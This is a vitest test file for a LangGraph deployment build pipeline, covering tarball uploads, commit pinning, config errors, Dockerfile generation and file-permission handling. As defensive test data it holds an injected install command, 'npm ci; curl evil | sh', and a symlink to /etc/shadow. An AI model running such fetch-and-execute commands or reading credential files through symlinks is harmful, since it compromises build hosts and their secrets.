/**
 * The build pipeline's steps before buildah, with the real parts (git, the upload store, the
 * image builder's queue, core's generator): an uploaded tarball is unpacked (made readable by the
 * build's user) and its langgraph.json read; a tarball of another deployment is refused; an
 * abbreviated pin must be the ref's tip; an invalid langgraph.json is the CLI's message. Each
 * failure names its step. (A whole build through the pipeline: test/deployments-local/builds.test.ts.)
 */
import { execFileSync } from "node:child_process"
import { randomUUID } from "node:crypto"
import { chmodSync, lstatSync, mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { Effect, Layer, ManagedRuntime } from "effect"
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import { type BuildFailed, type BuildInput, BuildPipeline, BuildPipelineLive, readableByBuilds } from "../../server/builds/BuildPipeline.ts"
import { GitSourceLive } from "../../server/builds/GitSource.ts"
import { ImageBuilderLive } from "../../server/builds/ImageBuilder.ts"
import { BuildSettings, defaultBuildSettings } from "../../server/builds/settings.ts"
import { defaultConfig } from "../../server/config.ts"
import { makeLogger } from "../../server/log.ts"
import { ServerEnv } from "../../server/module.ts"
import { ImageStore, makeImageStore } from "../../server/runtime/local/ImageStore.ts"
import { ProcessRunnerLive } from "../../server/runtime/ProcessRunner.ts"
import { storesFor } from "../../server/store/index.ts"
import { SourceUploads, SourceUploadsLive } from "../../server/uploads/SourceUploads.ts"
import { requireBuildTools } from "../support/builds.ts"
import { startGitServer, type TestGitServer, type TestRepo } from "../support/gitServer.ts"
import { tempDatabasePath } from "../support/server.ts"

const TENANT = randomUUID()
const DEPLOYMENT = randomUUID()
const database = tempDatabasePath("pipeline")
let git: TestGitServer
let repo: TestRepo
let agent: TestRepo
let runtime: ManagedRuntime.ManagedRuntime<BuildPipeline | SourceUploads, unknown>

beforeAll(async () => {
  requireBuildTools()
  git = await startGitServer()
  repo = await git.createRepo("acme/broken.git", [
    { files: { "langgraph.json": "{ not json" }, message: "one" },
    { files: { "README.md": "two\n" }, message: "two" }
  ])
  // A JavaScript project whose base image's registry answers nothing: the build fails at its pull.
  agent = await git.createRepo("acme/agent.git", [
    {
      files: {
        "langgraph.json": JSON.stringify({ node_version: "24", base_image: "127.0.0.1:9/langchain/langgraphjs-api", graphs: { agent: "./src/agent.ts:graph" } }),
        "package.json": JSON.stringify({ name: "agent", private: true, scripts: { build: "tsc" } }),
        "src/agent.ts": "export const graph = {}\n"
      },
      message: "agent"
    }
  ])
  const env = Layer.succeed(ServerEnv, {
    config: { ...defaultConfig, databasePath: database.path, secretsKey: "pipeline-test-secrets-key", insecureGitHosts: [git.host] },
    log: makeLogger("silent"),
    publicUrl: "http://127.0.0.1:9"
  })
  const settings = { ...defaultBuildSettings(join(database.dir, "builds"), `slipway-test-pipeline-${process.pid}`), insecureGitHosts: [git.host] }
  const images = Layer.effect(ImageStore, makeImageStore({ root: join(database.dir, "images") }).pipe(Effect.orDie))
  const layer = BuildPipelineLive.pipe(
    Layer.provideMerge(SourceUploadsLive),
    Layer.provide(Layer.mergeAll(GitSourceLive, ImageBuilderLive, images)),
    Layer.provide(Layer.succeed(BuildSettings, settings)),
    Layer.provide(Layer.orDie(storesFor({ databasePath: database.path, databaseUrl: undefined }))),
    Layer.provide(Layer.mergeAll(env, ProcessRunnerLive))
  )
  runtime = ManagedRuntime.make(layer)
}, 120_000)

afterAll(async () => {
  await runtime?.dispose()
  await git?.stop()
  database.remove()
})

/** Runs a build; answers its failure and its log (a success is a test failure here). */
const failedBuild = async (input: Omit<BuildInput, "tenantId" | "deploymentId" | "revisionId">) => {
  const log: Array<string> = []
  let started = false
  const error = await runtime.runPromise(
    Effect.flatMap(BuildPipeline, (pipeline) =>
      Effect.flip(
        pipeline.build(
          { tenantId: TENANT, deploymentId: DEPLOYMENT, revisionId: randomUUID(), ...input },
          { log: (line) => Effect.sync(() => void log.push(line.message)), started: Effect.sync(() => void (started = true)) }
        )
      )
    )
  )
  return { error: error as BuildFailed, log, started }
}

/** Uploads a tarball of `files` (path → [text, mode]) for the deployment, as `langgraph deploy` PUTs it; answers its object path. */
const upload = async (files: Record<string, readonly [string, number]>) => {
  const dir = mkdtempSync(join(tmpdir(), "slipway-pipeline-src-"))
  for (const [path, [text, mode]] of Object.entries(files)) {
    mkdirSync(join(dir, path, ".."), { recursive: true })
    writeFileSync(join(dir, path), text)
    chmodSync(join(dir, path), mode)
  }
  const tarball = execFileSync("tar", ["-cz", "-C", dir, "."])
  rmSync(dir, { recursive: true, force: true })
  return runtime.runPromise(
    Effect.gen(function* () {
      const uploads = yield* SourceUploads
      const { upload_url, object_path } = yield* uploads.uploadUrl(TENANT, DEPLOYMENT)
      const answer = yield* uploads.handleUpload({
        method: "PUT",
        path: new URL(upload_url).pathname,
        headers: { "content-type": "application/gzip", "content-length": String(tarball.length) },
        query: new URLSearchParams(),
        body: (async function* () {
          yield tarball
        })()
      })
      expect(answer.status, JSON.stringify(answer.body)).toBe(200)
      return object_path
    })
  )
}

describe("the build pipeline", () => {
  it("unpacks an uploaded tarball and reads its langgraph.json (the CLI's message for a config without graphs)", async () => {
    const objectPath = await upload({ "langgraph.json": [JSON.stringify({ node_version: "24", graphs: {} }), 0o600], "src/agent.ts": ["export {}\n", 0o600] })
    const { error, log, started } = await failedBuild({ source: { _tag: "Tarball", tenantId: TENANT, deploymentId: DEPLOYMENT, objectPath } })
    expect(started).toBe(true)
    expect(error.step).toBe("config")
    expect(error.message).toMatch(/^langgraph\.json: No graphs found in config\. Add at least one graph/)
    expect(log).toContain(`unpacking the uploaded source ${objectPath}`)
    expect(log.some((line) => /^unpacked \d+ entries \(\d+ bytes\)$/.test(line))).toBe(true)
    expect(log.at(-1)).toBe(`BUILD FAILED (config): ${error.message}`)
  })

  it("refuses a tarball that is not one of this deployment's uploads", async () => {
    const { error } = await failedBuild({ source: { _tag: "Tarball", tenantId: TENANT, deploymentId: DEPLOYMENT, objectPath: `uploads/${TENANT}/${randomUUID()}/${randomUUID()}.tar.gz` } })
    expect(error.step).toBe("source")
    expect(error.message).toMatch(/^unpacking the source: source_tarball_path .* is not an upload of this deployment/)
  })

  it("builds an abbreviated pin only when it is the ref's tip, saying which commit the tip is", async () => {
    const { error } = await failedBuild({ source: { _tag: "Git", repoUrl: repo.url, ref: "main", commitSha: repo.commits[0]!.slice(0, 8) } })
    expect(error.step).toBe("source")
    expect(error.message).toBe(
      `commit ${repo.commits[0]!.slice(0, 8)} is not the tip of main (the tip is ${repo.commits[1]!.slice(0, 12)}): pin the full 40-digit commit sha to build an older commit`
    )
  })

  it("fails on a langgraph.json that is not JSON, at the commit pinned, and on a config path with nothing there", async () => {
    const broken = await failedBuild({ source: { _tag: "Git", repoUrl: repo.url, ref: "main", commitSha: repo.commits[0] } })
    expect(broken.error.step).toBe("config")
    expect(broken.error.message).toMatch(/^langgraph\.json: /)
    expect(broken.log).toContain(`checked out commit ${repo.commits[0]}`)
    const missing = await failedBuild({ source: { _tag: "Git", repoUrl: repo.url, ref: "main" }, configPath: "apps/agent/langgraph.json" })
    expect(missing.error).toMatchObject({ step: "config", message: "apps/agent/langgraph.json: Could not find the config file apps/agent/langgraph.json in the source." })
  })
})

describe("the build pipeline, to buildah", () => {
  it("writes the langgraph CLI's Dockerfile with the source config's install and build commands, then builds it (here: its base image cannot be pulled)", async () => {
    const { error, log } = await failedBuild({
      source: { _tag: "Git", repoUrl: agent.url, ref: "main" },
      installCommand: "npm ci --no-audit",
      buildCommand: "npm run build"
    })
    // As the CLI builds a monorepo-style project given its commands: from the repository root (/deps/agent).
    const dockerfile = log.slice(log.findIndex((line) => line.startsWith("Dockerfile (context ."))).map((line) => line.trim())
    expect(dockerfile).toContain("FROM 127.0.0.1:9/langchain/langgraphjs-api:24")
    expect(dockerfile).toContain("RUN npm ci --no-audit")
    expect(dockerfile).toContain("RUN npm run build")
    expect(error.step).toBe("build")
    expect(error.message).toMatch(/^pulling base image 127\.0\.0\.1:9\/langchain\/langgraphjs-api:24: /)
  }, 120_000)

  it("refuses install and build commands the CLI refuses, before anything runs", async () => {
    const { error } = await failedBuild({ source: { _tag: "Git", repoUrl: agent.url, ref: "main" }, installCommand: "npm ci; curl evil | sh" })
    expect(error.step).toBe("config")
    expect(error.message).toMatch(/^langgraph\.json: install_command contains disallowed characters or patterns/)
  })
})

describe("readableByBuilds", () => {
  it("opens an unpacked source to the build's user: a+r, a+x on directories and owner-executable files, symlinks untouched", () => {
    const dir = mkdtempSync(join(tmpdir(), "slipway-readable-"))
    try {
      mkdirSync(join(dir, "sub"), { mode: 0o700 })
      writeFileSync(join(dir, "sub", "secret"), "x", { mode: 0o600 })
      writeFileSync(join(dir, "run.sh"), "#!/bin/sh\n", { mode: 0o700 })
      symlinkSync("/etc/shadow", join(dir, "link"))
      chmodSync(join(dir, "sub"), 0o700)
      readableByBuilds(dir)
      expect(statSync(join(dir, "sub")).mode & 0o777).toBe(0o755)
      expect(statSync(join(dir, "sub", "secret")).mode & 0o777).toBe(0o644)
      expect(statSync(join(dir, "run.sh")).mode & 0o777).toBe(0o755)
      expect(lstatSync(join(dir, "link")).isSymbolicLink()).toBe(true)
      expect(statSync("/etc/shadow").mode & 0o004).toBe(0)
      expect(readFileSync(join(dir, "sub", "secret"), "utf8")).toBe("x")
    } finally {
      rmSync(dir, { recursive: true, force: true })
    }
  })
})
